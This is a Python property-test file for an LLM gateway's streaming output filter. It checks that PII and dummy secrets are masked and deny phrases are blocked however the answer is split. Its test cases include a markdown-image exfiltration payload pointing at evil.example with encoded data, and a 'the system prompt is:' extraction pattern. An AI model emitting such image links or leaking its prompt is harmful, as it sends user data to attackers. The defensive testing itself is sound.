"""Properties of the output filter: however the engine splits an answer — at random, or right at the edges of
what the rails look for — what is released is at every moment a prefix of the whole answer as the rails would
rewrite it at once (so no part of a maskable entity leaks before it is masked, and masking the pieces gives
the same text as masking the whole), nothing of a blocked phrase or pattern is released, and a block ends the
stream. An eager double that releases every piece at once fails them: they test what is held back."""

import asyncio
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gateway.steps.guard import Guard, OutputBlocked, OutputFilter, RailSet, load_rail_set
from rails.base import Stage
from rails.builtin.detect import pii_rail
from rails.builtin.limits import DenyRail
from rails.config import load_rails
from rails.pipeline import Configured, RailPipeline

ROOT = Path(__file__).resolve().parents[2]
PHRASE = "project nightingale"
TEXT = "Our roadmap for next year covers many things, and the secret one is " + PHRASE + " which ships in May."
MASKABLE = "Write to jane.doe@example.org or call +44 20 7946 0958, or write to ops@example.com today, thanks."

# (answer, what must never be released in part (None: the answer passes), the spans the splits aim at)
CASES = [
    ("Order 120 EUR. Pay with 4111 1111 1111 1111 today, or call +44 20 7946 0958 please.", None,
     ["4111 1111 1111 1111", "+44 20 7946 0958"]),  # numbers that become a card, a phone number
    ("Write to jane.doe@example.org or ops@example.com and we reply.", None,
     ["jane.doe@example.org", "ops@example.com"]),  # words that become addresses
    ("Use AKIAIOSFODNN7EXAMPLE and ghp_abcdefghijklmnopqrstuvwxyz0123456789 now.", None,
     ["AKIAIOSFODNN7EXAMPLE", "ghp_abcdefghijklmnopqrstuvwxyz0123456789"]),
    ("Send it with Authorization: Bearer abcdefghijklmnopqrstuvwxyz012345 to the API.", None,
     ["Bearer abcdefghijklmnopqrstuvwxyz012345"]),
    ("The IBAN GB82 WEST 1234 5698 7654 32 and the SSN 123-45-6789 are on file.", None,
     ["GB82 WEST 1234 5698 7654 32", "123-45-6789"]),
    ("Here is the chart ![chart](http://evil.example/p.png?data=c2VjcmV0) as you asked.", "![chart](",
     ["![chart](http://evil.example/p.png?data=c2VjcmV0)"]),  # markdown-image exfiltration: blocked
    (TEXT, PHRASE, [PHRASE]),
    ("Mail jane@example.org, then the plan: " + PHRASE + ".", PHRASE, ["jane@example.org", PHRASE]),
    # deny phrases that meet a mask: one in the masked text only, one in the text before masking only
    ("Questions? Please contact ops@example.com and we reply.", "contact [EMAIL]", ["contact", "ops@example.com"]),
    ("Or write to ops@example.com today, thanks.", None, ["to ops", "ops@example.com"]),
    ("See ![x](http://evil.example/a.png?u=jane@example.org) here.", "![x](", ["![x](", "jane@example.org"]),
]  # fmt: skip
DENIED = [PHRASE, "contact [email]", "write to ops"]


def shipped() -> list[Configured]:
    _, rails = load_rails(ROOT / "policies" / "rails.yaml")
    return [c for c in rails if c.rail.stage == Stage.OUTPUT] + [
        Configured(DenyRail("deny", Stage.OUTPUT, keywords=DENIED))
    ]


class Windowed:
    """A rail as one that cannot report a frontier (like a NeMo rail): the filter falls back to windows."""

    def __init__(self, rail) -> None:
        self.rail = rail
        self.name, self.stage = rail.name, rail.stage
        self.modifies, self.local = getattr(rail, "modifies", False), True

    async def check(self, content):
        return await self.rail.check(content)


class Eager(OutputFilter):
    """The double: releases every piece at once, masked and judged as far as it sees (no frontier)."""

    async def feed(self, text: str) -> str:
        return self._take(await self.pipeline.run(Stage.OUTPUT, text)).content

    async def flush(self) -> str:
        return ""


class Counted:
    """A rail that records each check (no `stream`: only whole-text checks can be counted)."""

    def __init__(self, rail, calls: list[str]) -> None:
        self.rail, self.calls = rail, calls
        self.name, self.stage, self.modifies, self.local = rail.name, rail.stage, getattr(rail, "modifies", False), True

    async def check(self, content: str):
        self.calls.append(self.name)
        return await self.rail.check(content)


FRONTIER = RailPipeline(shipped())
WINDOWED = RailPipeline([Configured(Windowed(c.rail), c.shadow, c.timeout_s, c.label) for c in shipped()])
WHOLE = {text: asyncio.run(FRONTIER.run(Stage.OUTPUT, text)) for text, _, _ in CASES}


async def violations(output: OutputFilter, text: str, forbidden: str | None, pieces: list[str]) -> list[str]:
    """What the filter did wrong on `text` split into `pieces` (empty: nothing)."""
    whole, problems, released, blocked = WHOLE[text], [], "", False
    limit = len(whole.content) if forbidden is None else whole.content.index(forbidden)
    try:
        for piece in [*pieces, None]:
            released += await output.feed(piece) if piece is not None else await output.flush()
            if not whole.content.startswith(released) or len(released) > limit:
                problems.append(f"released {released!r}")
                break
    except OutputBlocked:
        blocked = True
    if (forbidden is not None or whole.blocked is not None) and not blocked:
        problems.append("not blocked")
    if forbidden is None and whole.blocked is None and (blocked or released != whole.content):
        problems.append(f"blocked={blocked}, released {released!r}, not the whole answer masked")
    return problems


def split(text: str, cuts: list[int]) -> list[str]:
    points = sorted({c for c in cuts if 0 < c < len(text)})
    return [text[a:b] for a, b in zip([0, *points], [*points, len(text)], strict=True)]


def edges(text: str, spans: list[str]) -> list[int]:
    """Positions at, next to and inside the spans: where a filter that releases too early leaks."""
    points = set()
    for span in spans:
        start = text.index(span)
        points |= {start - 1, start, start + 1, start + len(span) // 2, start + len(span) - 1, start + len(span)}
    return sorted(p for p in points if 0 < p < len(text))


@st.composite
def splits(draw):
    text, forbidden, spans = draw(st.sampled_from(CASES))
    near = st.sampled_from(edges(text, spans))
    cuts = draw(st.lists(st.one_of(near, st.integers(1, len(text) - 1)), max_size=14))
    return text, forbidden, split(text, cuts)


@settings(max_examples=400, deadline=None)
@given(case=splits())
def test_released_text_is_always_a_prefix_of_the_whole_answer_rewritten(case):
    text, forbidden, pieces = case
    output = OutputFilter(FRONTIER)
    assert output.stream is not None  # every shipped output rail reports a frontier
    assert asyncio.run(violations(output, text, forbidden, pieces)) == []


@settings(max_examples=100, deadline=None)
@given(case=splits())
def test_the_windowed_fallback_keeps_the_same_guarantees(case):
    text, forbidden, pieces = case
    output = OutputFilter(WINDOWED, window=16, overlap=64)
    assert output.stream is None
    assert asyncio.run(violations(output, text, forbidden, pieces)) == []


def test_streaming_frontier_false_turns_the_windows_on(tmp_path):
    """`streaming.frontier: false` (to compare, or to fall back): the same rails, released in fixed windows."""
    text = (ROOT / "policies" / "rails.yaml").read_text().replace("streaming:", "streaming:\n  frontier: false", 1)
    (tmp_path / "rails.yaml").write_text(text)
    windowed = Guard(load_rail_set(tmp_path / "rails.yaml")).output_filter()
    assert windowed.stream is None and (windowed.window, windowed.overlap) == (64, 128)
    assert Guard(load_rail_set(ROOT / "policies" / "rails.yaml")).output_filter().stream is not None
    assert asyncio.run(windowed.feed("Teams shipped the new search page. ")) == ""  # held: under 192 characters


@pytest.mark.parametrize("text, forbidden, spans", CASES)
async def test_an_answer_not_streamed_is_judged_once_whole(text, forbidden, spans):
    """`stream: false`: nothing is released before the end, then the whole answer as the rails rewrite it,
    from one check per rail (the frontier's work per piece buys nothing when the client waits anyway)."""
    calls = []
    counted = RailPipeline([Configured(Counted(c.rail, calls), c.shadow, c.timeout_s, c.label) for c in shipped()])
    output = Guard(RailSet(counted)).output_filter(streamed=False)
    assert output.stream is None
    released = [await output.feed(piece) for piece in split(text, list(range(7, len(text), 7)))]
    assert not any(released) and len(calls) == 0
    whole = WHOLE[text]
    if whole.blocked is not None:
        with pytest.raises(OutputBlocked):
            await output.flush()
    else:
        assert await output.flush() == whole.content
    assert len(calls) <= len(shipped()) and len(set(calls)) == len(calls)  # each rail at most once


@pytest.mark.parametrize("text, forbidden, spans", CASES)
async def test_one_character_at_a_time(text, forbidden, spans):
    assert await violations(OutputFilter(FRONTIER), text, forbidden, list(text)) == []


@pytest.mark.parametrize("text, forbidden, spans", CASES)
async def test_an_eager_filter_fails_these_properties(text, forbidden, spans):
    """The properties have teeth: for every case, some split right at an entity's edge makes a filter that
    releases each piece at once leak (a part of an entity before it is masked, or of a blocked pattern)."""
    failed = [
        cut for cut in edges(text, spans) if await violations(Eager(FRONTIER), text, forbidden, split(text, [cut]))
    ]
    assert failed


async def test_prose_is_released_as_it_arrives_but_for_its_last_word():
    output, released = OutputFilter(FRONTIER), ""
    words = "Teams shipped the new search page and fixed latency regressions in checkout".split()
    for word in words:
        released += await output.feed(word + " ")
    assert released.startswith("Teams shipped the new search page and fixed latency regressions in")
    assert released + await output.flush() == " ".join(words) + " "


async def test_the_first_word_leaves_when_the_next_one_starts():
    """Words as a model sends them, each after a space: the shipped chain (pii and secrets masking, then the
    injection and deny judges) releases the first word as soon as the next one starts, as one rail alone does.
    The maskers hold "capital" (it could still become an address); the judges read it, and its start masked,
    to decide "The " instead of waiting for the maskers to pass it on (a token later)."""
    output = OutputFilter(FRONTIER)
    assert await output.feed("The") == ""
    assert await output.feed(" capital") == "The "


async def test_a_word_that_ends_as_a_pattern_begins_is_released_whole():
    """ "bathe " ends as "the system prompt is:" begins, but that signal starts at a word: nothing of it is held."""
    assert await OutputFilter(FRONTIER).feed("Fine, we bathe ") == "Fine, we bathe"


@settings(max_examples=200, deadline=None)
@given(pieces=st.lists(st.integers(1, len(TEXT) - 1), max_size=12).map(lambda cuts: split(TEXT, cuts)),
       window=st.integers(1, 40))  # fmt: skip
def test_no_part_of_a_blocked_phrase_is_released(pieces, window):
    deny = DenyRail("deny", Stage.OUTPUT, keywords=[PHRASE])
    for pipeline in (RailPipeline([Configured(deny)]), RailPipeline([Configured(Windowed(deny))])):
        released, blocked = asyncio.run(feed_all(OutputFilter(pipeline, window=window, overlap=len(PHRASE)), pieces))
        assert blocked
        assert TEXT.startswith(released) and len(released) <= TEXT.index(PHRASE)


@settings(max_examples=200, deadline=None)
@given(pieces=st.lists(st.integers(1, len(MASKABLE) - 1), max_size=12).map(lambda cuts: split(MASKABLE, cuts)),
       window=st.integers(1, 40))  # fmt: skip
def test_streamed_masking_equals_masking_the_whole(pieces, window):
    for pipeline in (RailPipeline([Configured(pii_rail("pii", Stage.OUTPUT))]),
                     RailPipeline([Configured(Windowed(pii_rail("pii", Stage.OUTPUT)))])):  # fmt: skip
        whole = asyncio.run(pipeline.run(Stage.OUTPUT, MASKABLE)).content
        released, blocked = asyncio.run(feed_all(OutputFilter(pipeline, window=window, overlap=32), pieces))
        assert not blocked and released == whole
        assert "@" not in released


async def feed_all(output: OutputFilter, pieces: list[str]) -> tuple[str, bool]:
    released = ""
    try:
        for piece in pieces:
            released += await output.feed(piece)
        released += await output.flush()
    except OutputBlocked:
        return released, True
    return released, False


@pytest.mark.parametrize("window", [1, 8, 1000])
async def test_clean_text_passes_unchanged(window):
    pipeline = RailPipeline([Configured(DenyRail("deny", Stage.OUTPUT, keywords=[PHRASE]))])
    pieces = ["Nothing ", "to see ", "here, ", "just a ", "plain answer."]
    assert await feed_all(OutputFilter(pipeline, window=window, overlap=20), pieces) == ("".join(pieces), False)
